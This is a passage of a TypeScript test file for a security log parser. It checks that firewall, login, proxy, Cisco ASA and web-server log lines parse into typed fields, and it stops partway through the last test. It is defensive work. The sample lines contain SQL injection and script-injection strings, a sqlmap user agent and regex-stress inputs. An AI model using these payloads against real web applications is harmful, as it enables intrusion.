// Host and perimeter logs responders pull off servers: kernel firewall lines in syslog (UFW,
// iptables, firewalld), logins of services other than sshd (FTP, mail, su), HAProxy's HTTP log,
// journald JSON exports, and the Windows Firewall log. Each must come out typed (addresses, ports,
// actions), or the scan and brute-force detectors never see it.
import { describe, expect, it } from 'vitest';
import { parseText } from './helpers';
import { squidSpec } from '../../../src/core/formats/squid';
import { textSpec } from '../../../src/core/formats/text';

const syslog = (...lines: string[]): ReturnType<typeof parseText> => parseText(lines.join('\n') + '\n', { year: 2024 });

describe('kernel firewall lines in syslog', () => {
  it('UFW block: addresses, ports, protocol, a bare SYN, and the action from the prefix', () => {
    const r = syslog(
      'May  1 10:00:01 host kernel: [12345.678] [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22 SRC=203.0.113.5 DST=10.0.0.1 LEN=40 TOS=0x00 PREC=0x00 TTL=244 ID=54321 PROTO=TCP SPT=51234 DPT=22 WINDOW=1024 RES=0x00 SYN URGP=0',
      'May  1 10:00:02 host kernel: [12345.700] [UFW ALLOW] IN=eth0 OUT= MAC=00:11:22 SRC=10.0.0.9 DST=10.0.0.1 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=1 DF PROTO=UDP SPT=5353 DPT=53 LEN=40',
    );
    expect(r.detected.layout.format).toBe('syslog');
    const [b, a] = r.rows;
    expect([b.src_ip, b.src_port, b.dst_ip, b.dst_port, b.proto, b.flags, b.action, b.bytes, b.packets]).toEqual(['203.0.113.5', 51234, '10.0.0.1', 22, 'TCP', 'S', 'reject', 40, 1]);
    expect(JSON.parse(b.extra as string)).toMatchObject({ rule: '[UFW BLOCK]', in: 'eth0' });
    expect([a.action, a.proto, a.dst_port, a.flags]).toEqual(['accept', 'UDP', 53, null]);
  });

  it('iptables ICMP echo keeps type.code as flags; firewalld IPv6 RST/ACK is not a SYN', () => {
    const r = syslog(
      'May  1 10:00:02 host kernel: IPTables-Dropped: IN=eth0 OUT= MAC=00:11 SRC=198.51.100.9 DST=10.0.0.1 LEN=84 TOS=0x00 PREC=0x00 TTL=64 ID=0 DF PROTO=ICMP TYPE=8 CODE=0 ID=1 SEQ=1',
      'May  1 10:00:03 host kernel: FINAL_REJECT: IN=ens3 OUT= MAC=00:11 SRC=2001:db8::5 DST=2001:db8:0:0::1 LEN=80 TC=0 HOPLIMIT=57 FLOWLBL=0 PROTO=TCP SPT=4444 DPT=3389 WINDOW=0 RES=0x00 ACK RST URGP=0',
    );
    const [icmp, v6] = r.rows;
    expect([icmp.proto, icmp.flags, icmp.dst_port, icmp.action]).toEqual(['ICMP', '8.0', null, 'reject']);
    expect([v6.src_ip, v6.dst_ip, v6.dst_port, v6.flags, v6.action]).toEqual(['2001:db8::5', '2001:db8::1', 3389, 'AR', 'reject']);
  });

  it('pfSense / OPNsense filterlog: IPv4 and IPv6 packets as one-packet flows, block/pass as reject/accept', () => {
    const r = syslog(
      'May  1 10:00:05 fw filterlog[123]: 5,,,1000000103,em0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,198.51.100.77,10.0.0.5,40000,22,0,S,123,,64240,,mss',
      'May  1 10:00:06 fw filterlog[123]: 77,,,abc123,igb1,match,pass,out,6,0x00,0x00000,64,udp,17,76,2001:db8::10,2001:db8:1::53,53000,53,76',
      'May  1 10:00:07 fw filterlog[123]: 9,,,1000000105,em0,match,block,in,4,0x0,,57,1,0,none,1,icmp,84,203.0.113.9,10.0.0.7,request,1234,1',
      'May  1 10:00:08 fw filterlog[123]: not,a,filterlog,line',
    );
    const [tcp, udp, icmp, junk] = r.rows;
    expect([tcp.src_ip, tcp.src_port, tcp.dst_ip, tcp.dst_port, tcp.proto, tcp.flags, tcp.action, tcp.bytes, tcp.packets]).toEqual(['198.51.100.77', 40000, '10.0.0.5', 22, 'TCP', 'S', 'reject', 60, 1]);
    expect(JSON.parse(tcp.extra as string)).toMatchObject({ interface: 'em0', direction: 'in', rule: '5' });
    expect([udp.src_ip, udp.dst_ip, udp.src_port, udp.dst_port, udp.proto, udp.action]).toEqual(['2001:db8::10', '2001:db8:1::53', 53000, 53, 'UDP', 'accept']);
    expect([icmp.src_ip, icmp.proto, icmp.flags, icmp.dst_port]).toEqual(['203.0.113.9', 'ICMP', '8.0', null]);
    expect([junk.src_ip, junk.action]).toEqual([null, null]);
  });

  it('Shorewall glues its prefix to IN=: the verdict is still read from it', () => {
    const r = syslog('Jan  5 10:00:04 web01 kernel: [12348.0] Shorewall:net-fw:DROP:IN=eth0 OUT= SRC=203.0.113.8 DST=192.0.2.10 LEN=40 PROTO=TCP SPT=1 DPT=445 SYN');
    expect([r.rows[0].src_ip, r.rows[0].dst_port, r.rows[0].action, r.rows[0].flags]).toEqual(['203.0.113.8', 445, 'reject', 'S']);
    expect(JSON.parse(String(r.rows[0].extra)).rule).toBe('Shorewall:net-fw:DROP');
  });

  it('a line that only looks like one (no address in SRC=) stays an untyped message', () => {
    const r = syslog('May  1 10:00:04 host kernel: audit SRC=<script>alert(1)</script> PROTO=TCP DPT=22');
    expect([r.rows[0].src_ip, r.rows[0].dst_port, r.rows[0].action]).toEqual([null, null, null]);
    expect(r.rows[0].message).toContain('<script>');
  });
});

describe('logins of services other than sshd', () => {
  it('vsftpd, Dovecot, Postfix SASL and PAM for su/ftp are failed logins with their address', () => {
    const r = syslog(
      'May  1 10:00:04 host vsftpd[999]: [admin] FAIL LOGIN: Client "::ffff:203.0.113.7"',
      'May  1 10:00:05 host vsftpd[999]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=admin rhost=203.0.113.8',
      'May  1 10:00:06 host dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<info>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.1, TLS, session=<abc>',
      'May  1 10:00:07 host postfix/smtpd[123]: warning: unknown[203.0.113.10]: SASL LOGIN authentication failed: UGFzc3dvcmQ6',
      'May  1 10:00:08 host su: pam_unix(su:auth): authentication failure; logname=bob uid=1000 euid=0 tty=pts/0 ruser=bob rhost=  user=root',
      'May  1 10:00:09 host dovecot: imap-login: Login: user=<info>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.1, mpid=42, TLS',
    );
    expect(r.rows.map((x) => [x.action, x.src_ip, x.user])).toEqual([
      ['auth_failure', '203.0.113.7', 'admin'],
      ['auth_failure', '203.0.113.8', 'admin'],
      ['auth_failure', '203.0.113.9', 'info'],
      ['auth_failure', '203.0.113.10', null],
      ['auth_failure', null, 'root'],
      ['auth_success', '203.0.113.9', 'info'],
    ]);
  });

  it("sshd's PAM line repeats its own Failed password line: typed, but not counted twice", () => {
    const r = syslog(
      'May  1 10:00:10 host sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.6  user=root',
      'May  1 10:00:10 host sshd[5]: Failed password for root from 203.0.113.6 port 40022 ssh2',
    );
    expect(r.rows.map((x) => [x.action, x.src_ip])).toEqual([[null, '203.0.113.6'], ['auth_failure', '203.0.113.6']]);
  });
});

describe('HAProxy HTTP log in syslog', () => {
  it('client, status, bytes and the request line', () => {
    const r = syslog('May  1 10:00:08 lb haproxy[1234]: 203.0.113.11:51234 [01/May/2024:10:00:08.123] fe be/srv1 0/0/1/2/3 404 1234 - - ---- 1/1/0/0/0 0/0 "GET /admin.php?id=1%27%20OR%201=1 HTTP/1.1"');
    const h = r.rows[0];
    expect([h.src_ip, h.src_port, h.status, h.bytes, h.method, h.path, h.query, h.protocol]).toEqual(['203.0.113.11', 51234, 404, 1234, 'GET', '/admin.php', 'id=1%27%20OR%201=1', 'HTTP/1.1']);
  });

  it('captured request headers: the user agent is the value shaped like one, and behind a load balancer the forwarded client is the source', () => {
    const pre = 'Nov 10 04:30:00 lb1 haproxy[2211]: ';
    const r = syslog(
      `${pre}10.0.3.7:40112 [10/Nov/2026:04:30:00.123] fe_https~ be_app/app1 0/0/1/12/13 200 5120 - - ---- 41/41/3/1/0 0/0 {shop.example.org|sqlmap/1.8.3#stable (https://sqlmap.org)|198.51.100.23} "GET /item?id=1 HTTP/1.1"`,
      // request and response captures; the client's own claim left of what the balancer appended
      `${pre}10.0.3.7:40113 [10/Nov/2026:04:30:01.123] fe_https~ be_app/app1 0/0/1/12/13 200 5120 - - ---- 41/41/3/1/0 0/0 {Mozilla/5.0 (X11; Linux x86_64)|1.2.3.4, 203.0.113.9} {text/html} "GET / HTTP/1.1"`,
      // a public client: a header it sent is its own word
      `${pre}192.0.2.50:5000 [10/Nov/2026:04:30:02.123] fe_https~ be_app/app1 0/0/1/12/13 200 5120 - - ---- 41/41/3/1/0 0/0 {curl/8.5.0|203.0.113.77} "GET / HTTP/1.1"`,
    );
    expect(r.rows.map((x) => [x.src_ip, x.user_agent, x.path, JSON.parse(String(x.extra)).proxy_ip ?? null])).toEqual([
      ['198.51.100.23', 'sqlmap/1.8.3#stable (https://sqlmap.org)', '/item', '10.0.3.7'],
      ['203.0.113.9', 'Mozilla/5.0 (X11; Linux x86_64)', '/', '10.0.3.7'],
      ['192.0.2.50', 'curl/8.5.0', '/', null],
    ]);
  });
});

describe('older Linux syslog (RHEL 4 era, the loghub Linux set)', () => {
  it('sshd(pam_unix) authentication failures are failed logins, rhost an address or a host name; ftpd connections give the address', () => {
    const r = syslog(
      'Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ',
      'Jun 14 15:16:02 combo sshd(pam_unix)[19937]: check pass; user unknown',
      'Jun 15 02:04:59 combo sshd(pam_unix)[20882]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root',
      'Jul 10 03:55:15 combo sshd(pam_unix)[14281]: session opened for user test by (uid=509)',
      'Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)',
      'Jun 15 20:05:31 combo ftpd[23661]: connection from 82.252.162.81 (lns-vlq-45-tou-82-252-162-81.adsl.proxad.net) at Wed Jun 15 20:05:31 2005 ',
      'Jun 15 20:05:32 combo sshd(pam_unix)[1]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=<script>x</script>  user=root',
    );
    expect(r.rows.map((e) => [e.program, e.action, e.src_ip, e.user])).toEqual([
      ['sshd(pam_unix)', 'auth_failure', '218.188.2.4', null],
      ['sshd(pam_unix)', null, null, null],
      ['sshd(pam_unix)', 'auth_failure', '220-135-151-1.hinet-ip.hinet.net', 'root'],
      ['sshd(pam_unix)', 'session_open', null, 'test'],
      ['su(pam_unix)', null, null, 'cyrus'],
      ['ftpd', null, '82.252.162.81', null],
      ['sshd(pam_unix)', 'auth_failure', null, 'root'],
    ]);
  });
});

describe("sshd lines without a port (older OpenSSH, the loghub OpenSSH set) and BSD PAM errors", () => {
  it('closes, disconnects, DNS mismatch warnings and PAM summaries keep their address', () => {
    const r = syslog(
      'Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for ns.example.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!',
      'Dec 10 06:55:47 LabSZ sshd[24200]: Address 198.51.100.3 maps to x.example.net, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!',
      'Dec 10 07:02:47 LabSZ sshd[24203]: Connection closed by 212.47.254.145 [preauth]',
      'Dec 10 09:12:35 LabSZ sshd[24492]: Received disconnect from 103.99.0.122: 11: Bye Bye [preauth]',
      'Dec 10 10:00:01 LabSZ sshd[24690]: error: Received disconnect from 195.154.37.122: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]',
      'Dec 10 07:08:28 LabSZ sshd[24208]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=112.95.230.3  user=root',
      'Dec 10 07:08:29 LabSZ sshd[24209]: Connection closed by 2001:db8::9 port 50022 [preauth]',
      'Mar  5 10:00:00 fbsd01 sshd[4000]: error: PAM: Authentication error for illegal user admin0 from 203.0.113.77',
      'Mar  5 11:00:00 mbp sshd[600]: error: PAM: authentication error for root from 198.51.100.30 via 192.168.1.5',
    );
    expect(r.rows.map((e) => [e.action, e.src_ip, e.src_port, e.user])).toEqual([
      [null, '173.234.31.186', null, null],
      [null, '198.51.100.3', null, null],
      ['preauth_close', '212.47.254.145', null, null],
      ['preauth_close', '103.99.0.122', null, null],
      ['preauth_close', '195.154.37.122', null, null],
      // sshd logged each of those failures as its own Failed line: an address, not more failures
      [null, '112.95.230.3', null, 'root'],
      ['preauth_close', '2001:db8::9', 50022, null],
      // FreeBSD/macOS: an unknown user is a notice (sshd's "Failed keyboard-interactive/pam" line is the failure)
      ['invalid_user', '203.0.113.77', null, 'admin0'],
      [null, '198.51.100.30', null, 'root'],
    ]);
  });
});

describe('syslog carried in JSON or CSV', () => {
  it('journald JSON export: microsecond time, identifier as program, the sshd message typed', () => {
    const line = (i: number): string => JSON.stringify({ __REALTIME_TIMESTAMP: String((1714557601 + i) * 1_000_000 + 250), _HOSTNAME: 'bastion', SYSLOG_IDENTIFIER: 'sshd', _PID: '123', _TRANSPORT: 'syslog', MESSAGE: `Failed password for invalid user u${i} from 203.0.113.5 port ${51234 + i} ssh2` });
    const r = parseText([0, 1, 2].map(line).join('\n') + '\n');
    expect(r.detected.layout.format).toBe('jsonl');
    // _TRANSPORT names journald's intake (syslog, journal, stdout), not a network protocol
    expect(r.detected.layout.mapping.proto).toBeUndefined();
    expect(r.rows[0].proto).toBeNull();
    expect(r.rows.map((x) => [x.ts, x.host, x.program, x.action, x.src_ip, x.src_port, x.user])).toEqual([
      [1714557601000, 'bastion', 'sshd', 'auth_failure', '203.0.113.5', 51234, 'u0'],
      [1714557602000, 'bastion', 'sshd', 'auth_failure', '203.0.113.5', 51235, 'u1'],
      [1714557603000, 'bastion', 'sshd', 'auth_failure', '203.0.113.5', 51236, 'u2'],
    ]);
  });

  it('a CSV with its own address column keeps it; the message only fills what is empty', () => {
    const r = parseText('time,host,program,src_ip,message\n2024-05-01T10:00:00Z,web1,sshd,192.0.2.1,Failed password for root from 203.0.113.5 port 22 ssh2\n');
    expect([r.rows[0].src_ip, r.rows[0].action, r.rows[0].user, r.rows[0].src_port]).toEqual(['192.0.2.1', 'auth_failure', 'root', 22]);
  });
});

describe('Windows Firewall log (pfirewall.log, W3C)', () => {
  it('plain field names map by the synonym table; its path column (SEND/RECEIVE) is not a URL', () => {
    const r = parseText(
      [
        '#Version: 1.5',
        '#Software: Microsoft Windows Firewall',
        '#Time Format: Local',
        '#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path',
        '',
        '2024-05-01 10:00:01 DROP TCP 203.0.113.5 10.0.0.1 51234 3389 40 S 12345 0 1024 - - - RECEIVE',
        '2024-05-01 10:00:02 ALLOW UDP 10.0.0.1 10.0.0.53 60000 53 70 - - - - - - - SEND',
      ].join('\r\n') + '\r\n',
    );
    expect(r.detected.layout.format).toBe('w3c');
    const [d, a] = r.rows;
    expect([d.ts, d.action, d.proto, d.src_ip, d.dst_ip, d.src_port, d.dst_port, d.bytes, d.flags, d.path]).toEqual([Date.UTC(2024, 4, 1, 10, 0, 1), 'reject', 'TCP', '203.0.113.5', '10.0.0.1', 51234, 3389, 40, 'S', null]);
    expect(JSON.parse(d.extra as string)).toMatchObject({ path: 'RECEIVE' });
    expect([a.action, a.proto, a.dst_port]).toEqual(['accept', 'UDP', 53]);
  });
});

describe('Squid native access log', () => {
  it('client, status, bytes, URL split into host/port/path/query, peer as destination, denials as reject', () => {
    const r = parseText(
      [
        '1714557601.123    456 10.0.0.5 TCP_MISS/200 1234 GET http://example.com:8080/a/b.php?id=1%27%20OR%201=1 - HIER_DIRECT/93.184.216.34 text/html',
        '1714557602.001      0 10.0.0.7 TCP_DENIED/403 3941 CONNECT evil.example:443 alice HIER_NONE/- text/html',
        '1714557603.500  12045 10.0.0.5 TCP_TUNNEL/200 81234 CONNECT www.example.org:443 - HIER_DIRECT/2001:db8::10 -',
        '1714557604.000      5 10.0.0.9 NONE_NONE/000 0 NONE error:invalid-request - HIER_NONE/- -',
        '1714557605.250     80 10.0.0.5 TCP_MISS/404 310 GET http://shop.example/<script>alert(1)</script> - HIER_DIRECT/shop.example text/html',
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('squid');
    expect(r.quarantined).toEqual([]);
    const [a, d, t, x, h] = r.rows;
    expect([a.ts, a.duration, a.src_ip, a.status, a.bytes, a.method, a.host, a.dst_port, a.path, a.query, a.dst_ip, a.action]).toEqual([1714557601123, 0.456, '10.0.0.5', 200, 1234, 'GET', 'example.com', 8080, '/a/b.php', 'id=1%27%20OR%201=1', '93.184.216.34', null]);
    expect([d.action, d.status, d.method, d.host, d.dst_port, d.user, d.path]).toEqual(['reject', 403, 'CONNECT', 'evil.example', 443, 'alice', null]);
    expect([t.dst_ip, t.duration, t.bytes]).toEqual(['2001:db8::10', 12.045, 81234]);
    // no reply was sent: no status, and the pseudo-method NONE is not a method
    expect([x.status, x.method, x.src_ip]).toEqual([null, null, '10.0.0.9']);
    expect([h.path, h.dst_ip, JSON.parse(h.extra as string).peer]).toEqual(['/<script>alert(1)</script>', null, 'shop.example']);
  });

  it('epoch-first lines of another kind are not taken for Squid', () => {
    expect(squidSpec.detect(['1714557601.123 host sshd[1]: hello there friend how are you', '1714557602.123 host sshd[1]: again and again and again'])).toBeNull();
    expect(squidSpec.detect(['1714557601.123 456 10.0.0.5 TCP_MISS/200 1234 GET http://a/ - HIER_NONE/- -'])).not.toBeNull();
  });
});

describe('Cisco ASA / FTD / IOS firewall syslog', () => {
  it('denies, permits and built connections become connections with a verdict; sign-in failures are auth_failure', () => {
    const r = syslog(
      'May  1 10:00:01 10.0.0.254 %ASA-4-106023: Deny tcp src outside:203.0.113.5/51234 dst inside:10.0.0.1/22 by access-group "outside_access_in" [0x0, 0x0]',
      'May  1 10:00:02 fw01 %ASA-2-106001: Inbound TCP connection denied from 203.0.113.5/51235 to 10.0.0.1/23 flags SYN  on interface outside',
      'May  1 10:00:03 fw01 : %ASA-6-302013: Built inbound TCP connection 12345 for outside:203.0.113.5/51236 (203.0.113.5/51236) to inside:10.0.0.1/443 (198.51.100.1/443)',
      'May  1 2024 10:00:04 fw01 : %ASA-6-113015: AAA user authentication Rejected : reason = AAA failure : server = 10.0.0.9 : user = admin : user IP = 203.0.113.5',
      'May 01 2024 10:00:05: %ASA-4-106100: access-list outside_in denied tcp outside/203.0.113.5(51237) -> inside/10.0.0.1(3389) hit-cnt 1 first hit [0x1, 0x0]',
      '<166>May 01 2024 10:00:06 fw01 : %ASA-6-605004: Login denied from 203.0.113.5/51238 to outside:198.51.100.1/ssh for user "admin"',
      'May  1 10:00:07 fw01 %FTD-6-302013: Built outbound TCP connection 999 for outside:93.184.216.34/443 (93.184.216.34/443) to inside:10.0.0.5/51234 (198.51.100.1/51234)',
      'May  1 10:00:08 fw01 %ASA-4-106023: Deny icmp src outside:203.0.113.5 dst inside:10.0.0.1 (type 8, code 0) by access-group "outside_access_in" [0x0, 0x0]',
      'May  1 10:00:09 rtr1 123: *May  1 10:00:09: %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.5(51234) -> 10.0.0.1(22), 1 packet',
      'May  1 10:00:10 fw01 %ASA-6-106015: Deny TCP (no connection) from 10.0.0.5/443 to 203.0.113.5/51234 flags RST ACK  on interface inside',
      "May  1 10:00:11 fw01 %ASA-5-111008: User 'enable_15' executed the 'write mem' command.",
    );
    expect(r.quarantined).toEqual([]);
    const pick = (x: (typeof r.rows)[number]): unknown[] => [x.action, x.proto, x.src_ip, x.src_port, x.dst_ip, x.dst_port, x.flags];
    expect(r.rows.map(pick)).toEqual([
      ['reject', 'TCP', '203.0.113.5', 51234, '10.0.0.1', 22, null],
      ['reject', 'TCP', '203.0.113.5', 51235, '10.0.0.1', 23, 'S'],
      ['accept', 'TCP', '203.0.113.5', 51236, '10.0.0.1', 443, null],
      ['auth_failure', null, '203.0.113.5', null, null, null, null],
      ['reject', 'TCP', '203.0.113.5', 51237, '10.0.0.1', 3389, null],
      ['auth_failure', null, '203.0.113.5', 51238, null, null, null],
      // outbound: the inside host opened it
      ['accept', 'TCP', '10.0.0.5', 51234, '93.184.216.34', 443, null],
      ['reject', 'ICMP', '203.0.113.5', null, '10.0.0.1', null, '8.0'],
      ['reject', 'TCP', '203.0.113.5', 51234, '10.0.0.1', 22, null],
      ['reject', 'TCP', '10.0.0.5', 443, '203.0.113.5', 51234, 'RA'],
      [null, null, null, null, null, null, null],
    ]);
    // the year Cisco writes is used, not the assumed one
    expect(r.rows[3].ts).toBe(Date.UTC(2024, 4, 1, 10, 0, 4));
    expect([r.rows[3].user, r.rows[5].user]).toEqual(['admin', 'admin']);
    expect([r.rows[8].program, JSON.parse(r.rows[8].extra as string).seq, r.rows[8].packets]).toEqual(['%SEC-6-IPACCESSLOGP', '123', 1]);
  });
});

describe('Cisco ASA connection teardowns and builds', () => {
  // Cisco's own pairs (TAC document 116149, "How do you interpret the syslogs generated by the ASA
  // when it builds or tears down connections?"), a PIX UDP teardown, and an AAA failure with the
  // user masked
  it('teardowns give bytes and duration, their service end as the destination; builds both ends in the direction they say', () => {
    const r = syslog(
      'May  1 10:00:01 fw01 %ASA-6-302013: Built outbound TCP connection 9 for outside:10.1.2.1/22 (10.1.2.1/22) to inside:10.1.1.2/53496 (10.1.1.2/53496)',
      'May  1 10:00:31 fw01 %ASA-6-302014: Teardown TCP connection 9 for outside:10.1.2.1/22 to inside:10.1.1.2/53496 duration 0:00:30 bytes 0 SYN Timeout',
      'May  1 10:00:32 fw01 %ASA-6-302013: Built inbound TCP connection 10 for outside:10.1.2.1/28218 (10.1.2.1/28218) to NP Identity Ifc:10.1.2.2/22 (10.1.2.2/22)',
      'May  1 10:01:05 fw01 %ASA-6-302014: Teardown TCP connection 10 for outside:10.1.2.1/28218 to NP Identity Ifc:10.1.2.2/22 duration 0:00:33 bytes 968 TCP Reset-O',
      'May  1 10:01:06 fw01 %ASA-6-302014: Teardown TCP connection 123 for outside:203.0.113.5/51234 to inside:10.0.0.5/443 duration 1:01:02 bytes 123456 TCP FINs',
      'May  1 10:01:07 fw01 %PIX-6-302016: Teardown UDP connection 1042068 for outside:192.168.20.45/53 to inside:192.168.20.208/37989 duration 0:02:10 bytes 185',
      'May  1 10:01:08 fw01 %ASA-6-302015: Built outbound UDP connection 38627355 for outside:192.0.2.32/53 (192.0.2.32/53) to inside:10.31.98.44/6129 (10.31.98.44/6129)',
      'May  1 10:01:09 fw01 %ASA-6-302020: Built outbound ICMP connection for faddr 198.51.100.8/0 gaddr 203.0.113.4/7 laddr 10.0.0.4/7',
      'May  1 10:01:10 fw01 %ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.1.206.1 : user = ***** : user IP = 10.1.206.1',
    );
    expect(r.quarantined).toEqual([]);
    const pick = (x: (typeof r.rows)[number]): unknown[] => [x.action, x.proto, x.src_ip, x.src_port, x.dst_ip, x.dst_port, x.bytes, x.duration];
    expect(r.rows.map(pick)).toEqual([
      ['accept', 'TCP', '10.1.1.2', 53496, '10.1.2.1', 22, null, null],
      // the same connection's end: the inside client as the source again (port 22 is the service)
      ['close', 'TCP', '10.1.1.2', 53496, '10.1.2.1', 22, 0, 30],
      // an interface named with spaces (the ASA itself)
      ['accept', 'TCP', '10.1.2.1', 28218, '10.1.2.2', 22, null, null],
      ['close', 'TCP', '10.1.2.1', 28218, '10.1.2.2', 22, 968, 33],
      ['close', 'TCP', '203.0.113.5', 51234, '10.0.0.5', 443, 123456, 3662],
      ['close', 'UDP', '192.168.20.208', 37989, '192.168.20.45', 53, 185, 130],
      ['accept', 'UDP', '10.31.98.44', 6129, '192.0.2.32', 53, null, null],
      ['accept', 'ICMP', '10.0.0.4', null, '198.51.100.8', null, null, null],
      ['auth_failure', null, '10.1.206.1', null, null, null, null, null],
    ]);
    const x = (i: number): Record<string, string> => JSON.parse(r.rows[i]!.extra as string) as Record<string, string>;
    expect([x(1).teardown_reason, x(3).teardown_reason, x(1).direction_from, x(1).message_id]).toEqual(['SYN Timeout', 'TCP Reset-O', 'ports', '302014']);
    expect(r.rows[8]!.user).toBeNull();
  });

  it('long hostile teardown lines are read (a quadratic pattern would time this test out)', () => {
    const long = `May  1 10:00:01 fw01 %ASA-6-302014: Teardown TCP connection 1 for ${'a '.repeat(300000)}`;
    const long2 = `May  1 10:00:01 fw01 %ASA-6-302014: Teardown TCP connection 1 for o:1.2.3.4/5 to i:5.6.7.8/9 duration 0:00:01 bytes 1 ${'x'.repeat(1 << 20)}`;
    const r = syslog(long, long2);
    expect(r.rows.length).toBe(2);
    expect([r.rows[0]!.bytes, r.rows[1]!.bytes]).toEqual([null, 1]);
  });
});

describe('nginx and Apache error logs', () => {
  it('nginx: client, request, a missing file as the 404 it was, basic-auth failures with their user', () => {
    const r = parseText(
      [
        '2024/05/01 10:00:01 [error] 1234#1234: *5 open() "/usr/share/nginx/html/wp-login.php" failed (2: No such file or directory), client: 203.0.113.5, server: example.com, request: "GET /wp-login.php?x=1 HTTP/1.1", host: "example.com"',
        '2024/05/01 10:00:02 [error] 1234#1234: *6 user "admin": password mismatch, client: 203.0.113.6, server: example.com, request: "GET /admin/ HTTP/1.1", host: "example.com"',
        '2024/05/01 10:00:03 [error] 1234#1234: *7 user "root" was not found in "/etc/nginx/.htpasswd", client: 2001:db8::7, server: example.com, request: "GET /admin/ HTTP/1.1", host: "example.com"',
        '2024/05/01 10:00:04 [notice] 1#1: signal process started',
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('errorlog');
    expect(r.rows.map((x) => [x.ts, x.src_ip, x.method, x.path, x.query, x.status, x.action, x.user, x.host])).toEqual([
      [Date.UTC(2024, 4, 1, 10, 0, 1), '203.0.113.5', 'GET', '/wp-login.php', 'x=1', 404, null, null, 'example.com'],
      [Date.UTC(2024, 4, 1, 10, 0, 2), '203.0.113.6', 'GET', '/admin/', null, null, 'auth_failure', 'admin', 'example.com'],
      [Date.UTC(2024, 4, 1, 10, 0, 3), '2001:db8::7', 'GET', '/admin/', null, null, 'auth_failure', 'root', 'example.com'],
      [Date.UTC(2024, 4, 1, 10, 0, 4), null, null, null, null, null, null, null, null],
    ]);
    expect(r.rows[3].message).toBe('signal process started');
  });

  it('Apache 2.4 and 2.2: client and port, auth failures, missing files, ModSecurity blocks', () => {
    const r = parseText(
      [
        '[Wed May 01 10:00:03.123456 2024] [auth_basic:error] [pid 1234:tid 5678] [client 203.0.113.5:51234] AH01618: user admin not found: /admin',
        '[Wed May 01 10:00:04.000001 2024] [auth_basic:error] [pid 1234:tid 5678] [client 203.0.113.5:51235] AH01617: user bob: authentication failure for "/private/": Password Mismatch',
        '[Wed May 01 10:00:05 2024] [error] [client 203.0.113.8] File does not exist: /var/www/html/phpmyadmin',
        '[Wed May 01 10:00:06.5 2024] [security2:error] [pid 9] [client 203.0.113.9:4000] ModSecurity: Access denied with code 403 (phase 2). [msg "SQL Injection Attack Detected"] [uri "/item.php?id=1 union select"] [unique_id "x"]',
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('errorlog');
    expect(r.quarantined).toEqual([]);
    expect(r.rows.map((x) => [x.src_ip, x.src_port, x.action, x.user, x.path, x.status, x.program])).toEqual([
      ['203.0.113.5', 51234, 'auth_failure', 'admin', '/admin', null, 'apache:auth_basic'],
      ['203.0.113.5', 51235, 'auth_failure', 'bob', '/private/', null, 'apache:auth_basic'],
      ['203.0.113.8', null, null, null, null, 404, 'apache'],
      ['203.0.113.9', 4000, 'reject', null, '/item.php', 403, 'apache:security2'],
    ]);
    expect(r.rows[0].ts).toBe(Date.UTC(2024, 4, 1, 10, 0, 3, 123));
    expect(r.rows[3].query).toBe('id=1 union select');
    expect(JSON.parse(r.rows[2].extra as string)).toEqual({ level: 'error', file: '/var/www/html/phpmyadmin' });
  });
});

describe('timestamped text logs no specific format knows (fallback)', () => {
  it('time, level, first address and message; stack-trace lines are events without a time', () => {
    const r = parseText(
      [
        '[2024-05-01 10:00:00] app.ERROR: login failed for user "admin" from 203.0.113.5 {"exception":"AuthError"}',
        '2024-05-01 10:00:01,123 WARN  [http-nio-8080-exec-7] c.e.Auth - Invalid token from 198.51.100.7:51234',
        '    at com.example.Auth.check(Auth.java:42)',
        '2024-05-01T10:00:02.500Z INFO request from [2001:db8::9]:443 completed in 12 ms',
        '2024-05-01 10:00:03 pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=bob rhost=203.0.113.50',
        '2024-05-01 10:00:04 version 10.0.0.1000 released',
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('text');
    expect(r.quarantined).toEqual([]);
    expect(r.rows.map((x) => [x.ts, x.src_ip, x.src_port, x.action])).toEqual([
      // the app's own words for a failed login (appwording.ts); an invalid token is no password guessed
      [Date.UTC(2024, 4, 1, 10, 0, 0), '203.0.113.5', null, 'auth_failure'],
      [Date.UTC(2024, 4, 1, 10, 0, 1, 123), '198.51.100.7', 51234, null],
      [null, null, null, null],
      [Date.UTC(2024, 4, 1, 10, 0, 2, 500), '2001:db8::9', 443, null],
      [Date.UTC(2024, 4, 1, 10, 0, 3), '203.0.113.50', null, 'auth_failure'],
      // a version number is not an address
      [Date.UTC(2024, 4, 1, 10, 0, 4), null, null, null],
    ]);
    expect(JSON.parse(r.rows[1].extra as string)).toEqual({ level: 'WARN' });
    expect(r.rows[1].message).toBe('[http-nio-8080-exec-7] c.e.Auth - Invalid token from 198.51.100.7:51234');
